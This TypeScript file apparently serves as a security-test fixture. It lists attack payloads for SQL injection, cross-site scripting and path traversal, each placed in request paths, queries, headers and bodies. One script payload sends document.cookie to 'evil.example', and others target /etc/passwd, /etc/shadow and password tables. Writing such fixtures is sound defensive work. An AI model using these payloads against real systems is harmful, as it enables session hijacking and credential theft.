import type { OutgoingHttpHeaders } from 'node:http';

/** One attack, in each of the places where it can stand. */
export interface Attack {
  readonly name: string;

  /**
   * A whole request target.
   *
   * @default - the attack has no form in a path
   */
  readonly path?: string;

  /** Encoded value of a query parameter. */
  readonly query: string;
  readonly header: OutgoingHttpHeaders;
  readonly body: string;
}

const encoded = encodeURIComponent;
const cookie = (value: string): OutgoingHttpHeaders => ({ cookie: `session=${value}` });

const sql = "' UNION SELECT username, password FROM users--";
const tautology = "1' OR '1'='1' -- ";
const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const handler = '<img src=x onerror=alert(document.domain)>';
const traversal = '../../../../../../etc/passwd';

export const attacks: readonly Attack[] = [
  {
    name: 'SQL injection (union)',
    path: `/notes/${encoded(sql)}`,
    query: encoded(sql),
    header: cookie(encoded(sql)),
    body: sql,
  },
  { name: 'SQL injection (tautology)', query: encoded(tautology), header: cookie(encoded(tautology)), body: tautology },
  {
    name: 'cross-site scripting (script)',
    path: `/notes/${encoded(script)}`,
    query: encoded(script),
    header: { referer: script },
    body: script,
  },
  { name: 'cross-site scripting (handler)', query: encoded(handler), header: { 'user-agent': handler }, body: handler },
  {
    name: 'path traversal',
    path: `/notes/..%2f..%2f..%2f..%2fetc%2fpasswd`,
    query: traversal,
    header: { 'x-original-url': traversal },
    body: traversal,
  },
  {
    name: 'path traversal (encoded)',
    path: '/notes/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
    query: encoded(traversal),
    header: cookie(encoded(traversal)),
    body: '..\\..\\..\\windows\\win.ini ../../etc/shadow',
  },
];
